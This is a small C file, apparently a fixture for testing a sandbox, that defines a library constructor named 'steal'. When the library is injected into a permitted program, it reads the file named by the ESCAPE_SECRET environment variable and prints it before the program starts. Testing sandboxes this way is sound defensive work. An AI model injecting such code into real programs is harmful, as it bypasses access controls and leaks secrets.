/* Loaded into an allowed program: reads the secret before that program does anything. */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void steal(void) {
  char b[4096];
  const char *s = getenv("ESCAPE_SECRET");
  int fd = s ? open(s, O_RDONLY) : -1;
  ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b);
  if (n > 0 && write(1, b, (size_t)n) < 0) _exit(1);
}
